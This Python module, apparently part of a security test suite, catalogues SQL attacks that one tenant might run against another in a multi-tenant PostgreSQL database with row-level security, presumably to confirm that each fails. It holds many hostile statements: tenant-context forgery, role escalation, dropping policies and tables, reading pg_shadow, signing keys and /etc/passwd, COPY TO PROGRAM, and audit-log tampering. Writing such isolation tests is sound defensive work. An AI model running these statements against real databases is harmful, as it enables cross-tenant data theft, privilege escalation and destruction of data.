"""The catalogue of SQL attacks: each a list of statements run inside acme's transaction.

`%(globex)s` is the victim's tenant, `%(victim)s` the id of its rows, `%(own)s` the attacker's. LOOK
reads every table the tenants' role may read, and would show the victim's canaries.
"""

READABLE = (
    "tenants", "members", "api_keys", "audit_events", "usage_events", "assistants",
    "assistant_versions", "conversations", "messages", "tool_calls", "documents", "chunks",
    "connectors", "data_files", "patterns", "pattern_versions",
)  # fmt: skip
LOOK = " UNION ALL ".join(f"SELECT t::text AS row FROM tenantry.{name} AS t" for name in READABLE)
FOREIGN = "SELECT content FROM tenantry.messages WHERE tenant_id = %(globex)s"
ROLES = (
    "tenantry_owner", "tenantry_operator", "tenantry_auth", "tenantry_audit",
    "tenantry_breakglass", "postgres", "pg_read_all_data", "pg_database_owner",
)  # fmt: skip
_LEAK = (
    "CREATE FUNCTION {}.leak(text) RETURNS boolean LANGUAGE plpgsql COST 0.0001 AS"
    " $$ BEGIN RAISE NOTICE '%%', $1; RETURN true; END $$"
)

CONTEXT = {
    "set-the-setting-to-the-tenant": ["SET tenantry.context = 'globex'", LOOK],
    "set-local-the-setting": ["SET LOCAL tenantry.context = 'k1'", LOOK],
    "invent-a-setting": ["SELECT set_config('tenantry.tenant', %(globex)s::text, true)", LOOK],
    "reset-the-setting": ["RESET tenantry.context", LOOK],
    "default-the-setting": ["SET tenantry.context TO DEFAULT", LOOK],
    "reset-all": ["RESET ALL", LOOK],
    "discard-all": ["DISCARD ALL", LOOK],
    "discard-parts": ["DISCARD PLANS", "DISCARD SEQUENCES", "DISCARD TEMP", LOOK],
    "row-security-off": ["SET LOCAL row_security = off", LOOK],
    "row-security-off-for-the-session": ["SELECT set_config('row_security', 'off', false)", LOOK],
    "replica-role": ["SET session_replication_role = replica", LOOK],
    "commit-and-go-on": ["COMMIT", LOOK, FOREIGN],
    "rollback-and-go-on": ["ROLLBACK", LOOK, FOREIGN],
    "commit-and-begin": ["COMMIT", "BEGIN", LOOK, "ROLLBACK"],
    "become-a-tenant-without-a-context": [
        "COMMIT", "BEGIN", "SET LOCAL ROLE tenantry_tenant", LOOK, FOREIGN, "ROLLBACK",
    ],
    "chain-the-transaction": ["COMMIT AND CHAIN", LOOK, "ROLLBACK AND CHAIN", LOOK],
    "prepare-the-transaction": ["PREPARE TRANSACTION 'x'", LOOK],
    "two-statements-at-once": ["SELECT 1; COMMIT; BEGIN; SELECT 1", LOOK],
    "another-snapshot": [
        "SELECT pg_export_snapshot()", "SET TRANSACTION SNAPSHOT '00000000-00000000-1'", LOOK,
    ],
    "other-isolation": ["SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", LOOK],
    "read-the-token": [
        "SELECT replace(current_setting('tenantry.context'), %(acme_hex)s, %(globex_hex)s)",
        "SELECT set_config('tenantry.context',"
        " replace(current_setting('tenantry.context'), %(acme_hex)s, %(globex_hex)s), true)",
        LOOK,
    ],
    "forge-in-the-same-statement": [
        "SELECT m.content FROM (SELECT set_config('tenantry.context',"
        " replace(current_setting('tenantry.context'), %(acme_hex)s, %(globex_hex)s), true)"
        " AS done) AS s, LATERAL (SELECT m.content, s.done FROM tenantry.messages AS m) AS m",
    ],
    "forge-between-two-scans": [
        "WITH own AS MATERIALIZED (SELECT content FROM tenantry.messages),"
        " forge AS MATERIALIZED (SELECT set_config('tenantry.context',"
        " replace(current_setting('tenantry.context'), %(acme_hex)s, %(globex_hex)s), true)"
        " FROM own) SELECT d.title FROM forge, tenantry.documents AS d",
    ],
    "forge-on-the-second-row": [
        "SELECT x.n, m.content FROM (SELECT n, CASE WHEN n = 2 THEN set_config('tenantry.context',"
        " replace(current_setting('tenantry.context'), %(acme_hex)s, %(globex_hex)s), true)"
        " END AS f, CASE WHEN n = 1 THEN %(fresh)s::uuid ELSE %(victim)s::uuid END AS id"
        " FROM generate_series(1, 3) AS n OFFSET 0) AS x"
        " LEFT JOIN LATERAL (SELECT content FROM tenantry.messages AS m"
        " WHERE m.conversation_id = x.id AND x.f IS NOT DISTINCT FROM x.f) AS m ON true",
    ],
    "forge-in-the-where-clause": [
        "SELECT content FROM tenantry.messages WHERE set_config('tenantry.context',"
        " replace(current_setting('tenantry.context'), %(acme_hex)s, %(globex_hex)s), true)"
        " IS NOT NULL OR true",
        FOREIGN,
    ],
    "restore-a-forgery-by-savepoint": [
        "SAVEPOINT a",
        "SELECT set_config('tenantry.context', replace(current_setting('tenantry.context'),"
        " %(acme_hex)s, %(globex_hex)s), true)",
        "SAVEPOINT b", "ROLLBACK TO SAVEPOINT b", LOOK, "ROLLBACK TO SAVEPOINT a", LOOK,
    ],
    "call-the-verifier": [
        "SELECT tenantry.current_tenant()", "SELECT tenantry.verified_tenant()",
        "SELECT (tenantry.current_tenant()).*",
    ],
    "note-a-forged-token-as-genuine": [
        LOOK, "SET LOCAL backtrace_functions = 'k1'", "SET backtrace_functions = 'k1'",
        "RESET backtrace_functions", LOOK,
        "ALTER ROLE CURRENT_USER SET backtrace_functions = 'k1'",
        "SELECT set_config('backtrace_functions', replace(current_setting('tenantry.context'),"
        " %(acme_hex)s, %(globex_hex)s), true), set_config('tenantry.context',"
        " replace(current_setting('tenantry.context'), %(acme_hex)s, %(globex_hex)s), true)",
        LOOK,
    ],
    "parallel-workers": [
        "SET LOCAL debug_parallel_query = on", "SET LOCAL parallel_setup_cost = 0", LOOK,
    ],
}  # fmt: skip

IDENTITY = {
    **{f"set-role-{role}": [f"SET ROLE {role}", LOOK, FOREIGN] for role in ROLES},
    **{f"become-{role}": [f"SET SESSION AUTHORIZATION {role}", LOOK] for role in ROLES[:6]},
    "role-by-setting": [
        "SELECT set_config('role', 'tenantry_owner', false)",
        "SELECT set_config('session_authorization', 'postgres', false)", LOOK,
    ],
    "reset-role": ["RESET ROLE", LOOK, FOREIGN],
    "set-role-none": ["SET ROLE NONE", "SET SESSION AUTHORIZATION DEFAULT", LOOK],
    "reset-role-by-setting": ["SELECT set_config('role', 'none', false)", LOOK],
    "raise-oneself": [
        "ALTER ROLE tenantry_tenant BYPASSRLS", "ALTER ROLE tenantry_tenant SUPERUSER",
        "ALTER ROLE CURRENT_USER BYPASSRLS", "RESET ROLE", "ALTER ROLE tenantry_app BYPASSRLS",
        "ALTER ROLE SESSION_USER SUPERUSER", LOOK,
    ],
    "join-a-role": [
        "GRANT tenantry_owner TO tenantry_tenant", "GRANT pg_read_all_data TO CURRENT_USER",
        "GRANT tenantry_tenant TO PUBLIC", "RESET ROLE", "GRANT tenantry_owner TO tenantry_app",
        LOOK,
    ],
    "make-a-role": ["CREATE ROLE loot SUPERUSER", "CREATE USER loot", "DROP ROLE tenantry_auth"],
    "grant-oneself": [
        "GRANT ALL ON ALL TABLES IN SCHEMA tenantry TO PUBLIC",
        "GRANT SELECT ON tenantry_private.signing_keys TO tenantry_tenant",
        "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC",
        "REASSIGN OWNED BY tenantry_owner TO tenantry_tenant", LOOK,
    ],
    "own-defaults-for-later-sessions": [
        "ALTER ROLE tenantry_tenant SET tenantry.context = 'x'",
        "ALTER DATABASE postgres SET row_security = off", LOOK,
    ],
}  # fmt: skip

OBJECTS = {
    "temporary-table": ["CREATE TEMP TABLE loot AS SELECT 1 AS x"],
    "select-into": ["SELECT * INTO pg_temp.loot FROM tenantry.messages"],
    "table-anywhere": [
        "CREATE TABLE public.loot (x text)", "CREATE TABLE tenantry.loot (x text)",
        "CREATE TABLE extensions.loot (x text)", "CREATE UNLOGGED TABLE loot (x text)",
    ],
    "schema": ["CREATE SCHEMA loot", "CREATE SCHEMA AUTHORIZATION CURRENT_USER"],
    "shadow-the-verifier": [
        "CREATE FUNCTION pg_temp.current_tenant() RETURNS uuid LANGUAGE sql AS 'SELECT NULL::uuid'",
        "CREATE FUNCTION public.sha256(bytea) RETURNS bytea LANGUAGE sql AS 'SELECT $1'",
        "SET search_path = pg_temp, public, pg_catalog", LOOK,
    ],
    "replace-the-verifier": [
        "CREATE OR REPLACE FUNCTION tenantry.current_tenant() RETURNS uuid LANGUAGE sql AS"
        " $$ SELECT tenant_id FROM tenantry.tenants WHERE name LIKE 'tcn-globex%%' $$",
        "ALTER FUNCTION tenantry.current_tenant() SECURITY INVOKER",
        "ALTER FUNCTION tenantry.current_tenant() SET search_path = public",
        "ALTER FUNCTION tenantry.current_tenant() RENAME TO gone",
        "DROP FUNCTION tenantry.current_tenant() CASCADE", LOOK,
    ],
    "search-path": ["SET search_path = public, pg_temp", "SELECT * FROM messages", LOOK],
    "policies": [
        "ALTER POLICY tenant ON tenantry.messages USING (true)",
        "DROP POLICY tenant ON tenantry.messages",
        "CREATE POLICY open ON tenantry.messages USING (true)",
        "ALTER TABLE tenantry.messages DISABLE ROW LEVEL SECURITY",
        "ALTER TABLE tenantry.messages NO FORCE ROW LEVEL SECURITY",
        "ALTER TABLE tenantry.messages OWNER TO tenantry_tenant", LOOK,
    ],
    "view": [
        "CREATE VIEW public.loot AS SELECT * FROM tenantry.messages",
        "CREATE TEMP VIEW loot AS SELECT * FROM tenantry.messages",
        "CREATE MATERIALIZED VIEW loot AS SELECT * FROM tenantry.messages",
    ],
    "rule": [
        "CREATE RULE loot AS ON SELECT TO tenantry.messages DO INSTEAD SELECT 1",
        "CREATE RULE loot AS ON INSERT TO tenantry.messages DO ALSO NOTIFY loot",
    ],
    "trigger": [
        "CREATE TRIGGER loot BEFORE INSERT ON tenantry.messages FOR EACH ROW"
        " EXECUTE FUNCTION suppress_redundant_updates_trigger()",
        "ALTER TABLE tenantry.messages DISABLE TRIGGER ALL",
        "CREATE EVENT TRIGGER loot ON ddl_command_end EXECUTE FUNCTION pg_catalog.now()",
    ],
    "cheap-leaky-function": [
        _LEAK.format("pg_temp"), _LEAK.format("public"), _LEAK.format("tenantry"),
        "SELECT count(*) FROM tenantry.messages WHERE pg_temp.leak(content)",
    ],
    "leaky-operator": [
        "CREATE OPERATOR pg_temp.<<< (FUNCTION = texteq, LEFTARG = text, RIGHTARG = text)",
        "CREATE OPERATOR public.<<< (FUNCTION = texteq, LEFTARG = text, RIGHTARG = text)",
        "CREATE AGGREGATE pg_temp.loot (text) (SFUNC = textcat, STYPE = text)",
        "CREATE CAST (text AS uuid) WITH INOUT", "CREATE TYPE pg_temp.loot AS (x text)",
        "CREATE DOMAIN pg_temp.loot AS text", "CREATE COLLATION pg_temp.loot FROM \"C\"",
    ],
    "statistics-object": [
        "CREATE STATISTICS tenantry.loot ON role, content FROM tenantry.messages",
        "ALTER TABLE tenantry.messages ALTER COLUMN content SET STATISTICS 10000",
    ],
    "inheritance": [
        "CREATE TABLE pg_temp.loot () INHERITS (tenantry.messages)",
        "ALTER TABLE tenantry.messages INHERIT tenantry.documents",
    ],
    "index-with-a-function": ["CREATE INDEX ON tenantry.messages (lower(content))"],
    "maintenance": [
        "ANALYZE tenantry.messages", "REINDEX TABLE tenantry.messages",
        "CLUSTER tenantry.messages USING messages_pkey", "VACUUM tenantry.messages",
    ],
    "extensions": [
        "CREATE EXTENSION dblink", "CREATE EXTENSION postgres_fdw", "CREATE EXTENSION file_fdw",
        "CREATE EXTENSION pageinspect", "CREATE EXTENSION pg_trgm", "DROP EXTENSION vector CASCADE",
        "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", "LOAD 'auto_explain'",
        "CREATE LANGUAGE plperlu", "SELECT * FROM dblink('', '') AS t (x text)",
    ],
    "replication": [
        "CREATE PUBLICATION loot FOR ALL TABLES",
        "SELECT pg_create_logical_replication_slot('loot', 'test_decoding')",
        "CREATE SUBSCRIPTION loot CONNECTION '' PUBLICATION loot",
    ],
    "drop-everything": [
        "DROP TABLE tenantry.messages CASCADE", "DROP SCHEMA tenantry CASCADE",
        "ALTER TABLE tenantry.messages RENAME TO gone", "DROP OWNED BY tenantry_owner",
        "DROP DATABASE postgres",
    ],
    "server-settings": [
        "ALTER SYSTEM SET row_security = off", "SELECT pg_reload_conf()", "CHECKPOINT",
        "SELECT pg_switch_wal()", "SET session_preload_libraries = 'x'",
        "SET log_statement = 'all'",
    ],
}  # fmt: skip

WRITES = {
    "insert-for-the-neighbour": [
        "INSERT INTO tenantry.messages (tenant_id, conversation_id, message_no, role, content)"
        " VALUES (%(globex)s, %(victim)s, 2, 'user', 'planted')",
    ],
    "insert-select-for-the-neighbour": [
        "INSERT INTO tenantry.documents (tenant_id, document_id, title, media_type, sha256,"
        " size_bytes, chunk_count, embedder, created_by) SELECT %(globex)s, document_id, title,"
        " media_type, sha256, size_bytes, chunk_count, embedder, created_by"
        " FROM tenantry.documents",
    ],
    "upsert-the-neighbours-row": [
        "INSERT INTO tenantry.members (tenant_id, member_id, external_id, role)"
        " VALUES (%(globex)s, %(victim)s, 'x', 'owner')"
        " ON CONFLICT (tenant_id, member_id) DO UPDATE SET display_name = 'taken' RETURNING *",
        "INSERT INTO tenantry.members (tenant_id, member_id, external_id, role)"
        " VALUES (%(globex)s, %(victim)s, 'x', 'owner') ON CONFLICT DO NOTHING RETURNING *",
    ],
    "upsert-with-the-neighbours-id": [
        "INSERT INTO tenantry.connectors (tenant_id, connector_id, name, kind)"
        " VALUES (%(acme)s, %(victim)s, 'mine', 'files')"
        " ON CONFLICT (tenant_id, connector_id) DO UPDATE SET name = 'taken' RETURNING *",
    ],
    "move-own-rows-over": [
        "UPDATE tenantry.members SET tenant_id = %(globex)s RETURNING *",
        "UPDATE tenantry.assistants SET tenant_id = %(globex)s RETURNING *",
    ],
    "move-the-neighbours-rows-here": [
        "UPDATE tenantry.assistants SET tenant_id = %(acme)s WHERE tenant_id = %(globex)s"
        " RETURNING *",
        "UPDATE tenantry.conversations SET title = 'taken' WHERE conversation_id = %(victim)s"
        " RETURNING *",
    ],
    "update-from": [
        "UPDATE tenantry.conversations AS c SET title = m.content FROM tenantry.messages AS m"
        " WHERE m.conversation_id = %(victim)s RETURNING c.*, m.*",
    ],
    "delete-the-neighbours-rows": [
        "DELETE FROM tenantry.documents WHERE tenant_id = %(globex)s RETURNING *",
        "DELETE FROM tenantry.conversations WHERE conversation_id = %(victim)s RETURNING *",
        "DELETE FROM tenantry.members USING tenantry.tenants AS t WHERE t.tenant_id = %(globex)s",
    ],
    "delete-everything": ["DELETE FROM tenantry.documents", "DELETE FROM tenantry.connectors"],
    "merge": [
        "MERGE INTO tenantry.conversations AS c USING (SELECT %(victim)s::uuid AS id) AS s"
        " ON c.conversation_id = s.id WHEN MATCHED THEN UPDATE SET title = 'taken'"
        " WHEN NOT MATCHED THEN INSERT (tenant_id, conversation_id, member_id, assistant_id)"
        " VALUES (%(globex)s, s.id, s.id, s.id)",
    ],
    "hang-own-rows-below-the-neighbours": [
        "INSERT INTO tenantry.messages (tenant_id, conversation_id, message_no, role, content)"
        " VALUES (%(acme)s, %(victim)s, 1, 'user', 'x')",
        "UPDATE tenantry.conversations SET assistant_id = %(victim)s RETURNING *",
    ],
    "truncate": ["TRUNCATE tenantry.messages", "TRUNCATE tenantry.tenants CASCADE"],
    "lock": [
        "LOCK TABLE tenantry.messages IN ACCESS EXCLUSIVE MODE",
        "SELECT * FROM tenantry.messages FOR UPDATE",
        "SELECT * FROM tenantry.conversations WHERE tenant_id = %(globex)s FOR UPDATE",
    ],
    "rewrite-the-books": [
        "UPDATE tenantry.usage_events SET cost_picousd = 0",
        "DELETE FROM tenantry.usage_events", "UPDATE tenantry.prices SET microusd_per_million = 0",
        "INSERT INTO tenantry.usage_events (tenant_id, call_id, kind, operation, actor, provider,"
        " model, calls, cost_picousd, price_version) VALUES (%(globex)s, %(fresh)s, 'recorded',"
        " 'chat', 'x', 'p', 'm', 1, 1000000000, 0)",
        "SELECT tenantry.sweep_usage(1000)",
    ],
    "rewrite-the-audit-log": [
        "DELETE FROM tenantry.audit_events", "UPDATE tenantry.audit_events SET actor = 'nobody'",
        "INSERT INTO tenantry.audit_events SELECT * FROM tenantry.audit_events",
        "SELECT tenantry.append_audit(%(globex)s, 'x', 'x', 'allowed', 'x', '', '{}', '')",
        "SELECT tenantry.anchor_audit()", "SELECT * FROM tenantry.verify_audit()",
        "SELECT * FROM tenantry.audit_heads", "UPDATE tenantry.audit_heads SET seq = 0",
    ],
    "suspend-or-rename-the-neighbour": [
        "UPDATE tenantry.tenants SET status = 'suspended' WHERE tenant_id = %(globex)s",
        "INSERT INTO tenantry.tenants (tenant_id, name) VALUES (%(fresh)s, 'third')",
        "DELETE FROM tenantry.tenants",
    ],
    "break-the-glass": [
        "SELECT tenantry.open_break_glass(%(own)s, %(globex)s, 'because I can', 60, '', '')",
        "SELECT tenantry.enter_break_glass('', '')", "SELECT tenantry.break_glass_tenant()",
        "SELECT set_config('tenantry.break_glass', %(victim)s::text, true)", LOOK,
        "SELECT token_digest FROM tenantry.break_glass_grants",
    ],
}  # fmt: skip

READS = {
    "foreign-rows-by-filter": [FOREIGN, FOREIGN + " OR true", FOREIGN + " OR tenant_id IS NULL"],
    "every-row": [LOOK],
    "by-physical-place": [
        "SELECT ctid, content FROM tenantry.messages WHERE ctid = ANY (ARRAY(SELECT"
        " format('(%%s,%%s)', p, i)::tid FROM generate_series(0, 3) AS p,"
        " generate_series(1, 9) AS i))",
        "SELECT ctid, xmin, tableoid, content FROM tenantry.messages WHERE ctid > '(0,0)'",
    ],
    "sampled": ["SELECT content FROM tenantry.messages TABLESAMPLE SYSTEM (100)"],
    "joined-outwards": [
        "SELECT m.* FROM generate_series(1, 2) FULL JOIN tenantry.messages AS m ON true",
        "SELECT d.*, m.* FROM tenantry.documents AS d RIGHT JOIN tenantry.messages AS m"
        " ON m.tenant_id <> d.tenant_id",
        "SELECT (SELECT string_agg(content, ' ') FROM tenantry.messages"
        " WHERE tenant_id <> t.tenant_id) FROM tenantry.tenants AS t",
    ],
    "recursive": [
        "WITH RECURSIVE r AS (SELECT content, 1 AS n FROM tenantry.messages UNION ALL"
        " SELECT m.content, n + 1 FROM tenantry.messages AS m, r WHERE n < 3) SELECT * FROM r",
    ],
    "prepared": [
        "PREPARE loot AS SELECT content FROM tenantry.messages", "EXECUTE loot",
        "SELECT set_config('tenantry.context', '', true)", "EXECUTE loot", "DEALLOCATE loot",
    ],
    "prepared-under-the-drivers-name": [
        "DEALLOCATE ALL",
        *[f"PREPARE _pg3_{n} AS SELECT content FROM tenantry.messages" for n in range(12)],
    ],
    "cursor-held-over-the-commit": [
        "DECLARE loot CURSOR WITH HOLD FOR SELECT content FROM tenantry.messages", "FETCH ALL loot",
        "COMMIT", "FETCH ALL loot", "MOVE FIRST IN loot", "FETCH ALL FROM loot",
    ],
    "copy-out": [
        "COPY tenantry.messages TO STDOUT", "COPY (SELECT * FROM tenantry.messages) TO STDOUT",
        "COPY tenantry.messages TO '/tmp/tenantry-loot'", "COPY tenantry.messages TO PROGRAM 'cat'",
    ],
    "copy-in": [
        "COPY tenantry.messages FROM STDIN", "COPY tenantry.messages FROM '/etc/passwd'",
        "COPY tenantry.members (display_name) FROM PROGRAM 'id'",
    ],
    "block": [
        "DO $$ DECLARE r record; BEGIN FOR r IN SELECT content FROM tenantry.messages LOOP"
        " RAISE EXCEPTION 'row %%', r.content; END LOOP; END $$",
        "DO $$ BEGIN EXECUTE 'SET LOCAL ROLE tenantry_owner'; END $$",
        "DO $$ BEGIN COMMIT; PERFORM count(*) FROM tenantry.messages; END $$", LOOK,
        "DO LANGUAGE plpython3u $$ pass $$",
    ],
    "call": ["CALL tenantry.current_tenant()", "CALL pg_catalog.now()"],
    "to-xml": [
        "SELECT query_to_xml('SELECT * FROM tenantry.messages', true, true, '')",
        "SELECT table_to_xml('tenantry.messages', true, true, '')",
        "SELECT schema_to_xml('tenantry', true, true, '')",
        "SELECT database_to_xml(true, true, '')",
        "SELECT query_to_xml('SELECT set_config(''role'', ''tenantry_owner'', false)', true,"
        " true, '')",
        "SELECT ts_stat('SELECT terms FROM tenantry.chunks')",
        "SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, content::tsquery"
        " FROM tenantry.messages')",
    ],
    "explain": [
        "EXPLAIN (ANALYZE, VERBOSE, BUFFERS, FORMAT JSON) SELECT * FROM tenantry.messages"
        " WHERE tenant_id = %(globex)s",
        "EXPLAIN (ANALYZE, VERBOSE) SELECT * FROM tenantry.messages",
    ],
    "statistics": [
        "SELECT * FROM pg_stats WHERE schemaname LIKE 'tenantry%%'", "SELECT * FROM pg_stats_ext",
        "SELECT * FROM pg_stats_ext_exprs", "SELECT * FROM pg_statistic",
        "SELECT * FROM pg_statistic_ext_data",
    ],
    "other-sessions": [
        "SELECT * FROM pg_stat_activity", "SELECT * FROM pg_stat_get_activity(NULL)",
        "SELECT pg_stat_get_backend_activity(b) FROM generate_series(1, 200) AS b",
        "SELECT * FROM pg_stat_statements", "SELECT * FROM pg_locks",
        "SELECT * FROM pg_prepared_xacts", "SELECT * FROM pg_cursors",
        "SELECT * FROM pg_prepared_statements",
    ],
    "end-other-sessions": [
        "SELECT pg_terminate_backend(pid, 0) FROM generate_series(1, 70000) AS pid",
        "SELECT pg_cancel_backend(pid) FROM generate_series(1, 70000) AS pid",
    ],
    "files": [
        "SELECT pg_read_file('postgresql.conf')", "SELECT pg_read_binary_file('PG_VERSION')",
        "SELECT pg_ls_dir('.')", "SELECT pg_stat_file('PG_VERSION')",
        "SELECT * FROM pg_ls_waldir()",
        "SELECT * FROM pg_hba_file_rules", "SELECT pg_current_logfile()",
        "SELECT setting FROM pg_settings WHERE name IN ('data_directory', 'hba_file')",
    ],
    "large-objects": [
        "SELECT lo_create(0)", "SELECT lo_from_bytea(0, 'x')", "SELECT lo_import('/etc/passwd')",
        "SELECT lo_export(1, '/tmp/tenantry-loot')", "SELECT lo_get(1)",
        "SELECT * FROM pg_largeobject", "SELECT oid FROM pg_largeobject_metadata",
    ],
    "secrets-of-the-server": [
        "SELECT * FROM tenantry_private.signing_keys", "SELECT * FROM pg_authid",
        "SELECT * FROM pg_shadow", "SELECT passwd FROM pg_user", "SELECT * FROM pg_user_mappings",
        "SELECT prosrc, proconfig FROM pg_proc WHERE pronamespace = 'tenantry'::regnamespace",
        "SELECT pg_get_functiondef('tenantry.current_tenant()'::regprocedure)",
        "SELECT setconfig FROM pg_db_role_setting", "SELECT * FROM tenantry_private.migrations",
    ],
    "other-roles-tables": [
        "SELECT * FROM tenantry.operators", "SELECT * FROM tenantry.operator_keys",
        "SELECT * FROM tenantry.audit_heads", "SELECT * FROM tenantry.break_glass_sessions",
    ],
    "sequences": [
        "SELECT nextval(c.oid::regclass) FROM pg_class AS c WHERE relkind = 'S'",
        "CREATE TEMP SEQUENCE loot", "SELECT lastval()",
    ],
    "errors-that-quote-rows": [
        "SELECT content::integer FROM tenantry.messages",
        "SELECT 1 / (length(content) - length(content)) FROM tenantry.messages",
        "SELECT content::integer FROM tenantry.messages WHERE tenant_id = %(globex)s",
        "SELECT * FROM tenantry.messages WHERE content::integer > 0 AND tenant_id = %(globex)s",
        "SELECT * FROM tenantry.messages"
        " WHERE 1 / (CASE tenant_id WHEN %(globex)s THEN 0 ELSE 1 END) = 1",
        "SELECT * FROM tenantry.messages ORDER BY content::json",
        "SELECT max(content::xml::text) FROM tenantry.messages",
    ],
    "leaky-builtins-in-the-filter": [
        "SELECT * FROM tenantry.messages WHERE content ~ '(((' OR content LIKE '%%globex%%'",
        "SELECT * FROM tenantry.messages WHERE pg_notify('loot', content) IS NOT NULL",
        "SELECT * FROM tenantry.messages WHERE set_config('my.loot', content, false) <> ''",
        "SELECT current_setting('my.loot', true)",
    ],
    "memory-and-temporary-files": [
        "SELECT * FROM pg_backend_memory_contexts", "SELECT pg_log_backend_memory_contexts(1)",
        "SELECT * FROM pg_ls_tmpdir()", "SELECT * FROM pg_shmem_allocations",
    ],
}  # fmt: skip

LEFTOVERS = {
    "settings-for-the-next-user": [
        "SELECT set_config('tenantry.context', current_setting('tenantry.context'), false)",
        "SELECT set_config('search_path', 'public', false)",
        "SELECT set_config('statement_timeout', '1', false)",
        "SELECT set_config('default_transaction_read_only', 'on', false)",
        "SELECT set_config('my.loot', 'x', false)",
    ],
    "role-for-the-next-user": ["SELECT set_config('role', 'tenantry_tenant', false)"],
    "session-settings": ["SET statement_timeout = 1", "SET TIME ZONE 'Asia/Tokyo'"],
    "transaction-defaults": [
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY",
        "SET default_transaction_isolation = 'serializable'",
    ],
    "encoding": ["SET client_encoding = 'LATIN1'", "SET standard_conforming_strings = off"],
    "advisory-locks": [
        "SELECT pg_advisory_lock(4711)", "SELECT pg_advisory_lock(1, 2)",
        "SELECT pg_advisory_lock_shared(4712)",
    ],
    "listening": ["LISTEN loot", "NOTIFY loot, 'x'", "SELECT pg_notify('loot', 'y')"],
    "held-cursor": ["DECLARE loot CURSOR WITH HOLD FOR SELECT 1"],
    "held-cursor-by-commit": ["DECLARE loot CURSOR WITH HOLD FOR SELECT 1", "COMMIT", "FETCH loot"],
    "prepared-statement": ["PREPARE loot AS SELECT 1"],
    "prepared-in-a-block": ["DO $$ BEGIN EXECUTE 'PREPARE loot AS SELECT 1'; END $$"],
    "prepared-after-another-statement": ["SELECT 1; PREPARE loot AS SELECT 1"],
    "prepared-then-an-error": ["PREPARE loot AS SELECT 1", "SELECT 1 / 0"],
    "deallocated-in-a-block": ["DO $$ BEGIN EXECUTE 'DEALLOCATE ALL'; END $$"],
    "open-transaction": ["COMMIT", "BEGIN", "SELECT 1"],
    "failed-transaction": ["SELECT 1 / 0"],
    "random-seed": ["SELECT setseed(0.5)"],
}  # fmt: skip

FAMILIES = {
    "context": CONTEXT,
    "identity": IDENTITY,
    "objects": OBJECTS,
    "writes": WRITES,
    "reads": READS,
    "leftovers": LEFTOVERS,
}
